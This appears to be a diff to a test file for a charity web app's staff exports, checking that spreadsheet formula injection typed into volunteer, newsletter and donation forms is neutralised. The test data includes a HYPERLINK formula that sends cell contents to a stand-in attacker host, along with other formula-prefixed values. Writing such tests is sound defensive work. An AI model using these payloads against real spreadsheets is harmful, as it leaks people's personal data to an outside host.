@@ -23,7 +23,7 @@ import { parseDonationForm } from "@/lib/donations/donation-form-schema";
 import { donationsExport } from "@/lib/donations/export-donations";
 import { handleWebhook } from "@/lib/donations/handle-webhook";
 import { startCheckout } from "@/lib/donations/start-checkout";
-import { claimSchedule } from "@/lib/gift-aid/claim-schedule";
+import { claimScheduleFile } from "@/lib/gift-aid/claim-schedule";
 import { StaffRole, SubscriberStatus } from "@/lib/generated/prisma/enums";
 import { subscribersExport } from "@/lib/newsletter/admin-subscribers";
 import { signupSchema } from "@/lib/newsletter/signup-schema";
@@ -46,8 +46,9 @@ type Form = "volunteer" | "newsletter signup" | "donation form" | "Stripe checko
 /**
  * What a visitor can type, where it goes, and the exports that carry it as typed (each value is
  * already as its form stores it: trimmed, and an email lower-case). `refused`: the form's schema turns this value away, so it never reaches a
- * file. HMRC's schedule keeps only letters, spaces, hyphens and apostrophes of a name, so a
- * formula typed as a first name or title is already gone from that file; it is still checked.
+ * file. HMRC's schedule keeps only letters, spaces, hyphens and apostrophes of a name (and turns a
+ * surname's hyphens into spaces), so a formula typed as a name or title is already gone from that
+ * file; it is still checked.
  */
 const fields: { form: Form; field: string; value: string; carriedBy: ExportName[]; refused?: true }[] = [
   { form: "volunteer", field: "name", value: '=HYPERLINK("https://evil.example/?d="&A1,"Open")', carriedBy: ["volunteers"] },
@@ -58,7 +59,8 @@ const fields: { form: Form; field: string; value: string; carriedBy: ExportName[
   { form: "newsletter signup", field: "email", value: "+1-1@example.org", carriedBy: ["subscribers"] },
   { form: "donation form", field: "title", value: "=Dr", carriedBy: [] },
   { form: "donation form", field: "firstName", value: "@Jo", carriedBy: [] },
-  { form: "donation form", field: "lastName", value: "-Smith", carriedBy: ["hmrc"] },
+  // HMRC wants a hyphen in a surname as a space, so "-Smith" reaches the schedule as "Smith".
+  { form: "donation form", field: "lastName", value: "-Smith", carriedBy: [] },
   { form: "donation form", field: "houseNameOrNumber", value: '=HYPERLINK("http://x.example","1")', carriedBy: ["hmrc"] },
   { form: "donation form", field: "addressLine", value: "+High Street", carriedBy: [] },
   { form: "donation form", field: "postcode", value: "=1+1", carriedBy: [], refused: true },
@@ -75,7 +77,7 @@ let claimId: string;
 /** Every export staff can download, as the download writes it. */
 const exports: Record<ExportName, (db: Db) => Promise<SpreadsheetExport<string> | null>> = {
   donations: (db) => donationsExport(db, donationFilterSchema.parse({})),
-  hmrc: (db) => claimSchedule(db, claimId),
+  hmrc: async (db) => (await claimScheduleFile(db, claimId, 1))?.data ?? null,
   subscribers: (db) => subscribersExport(db, {}),
   volunteers: (db) => exportVolunteers(db, adminId, volunteerFilterSchema.parse({})),
 };
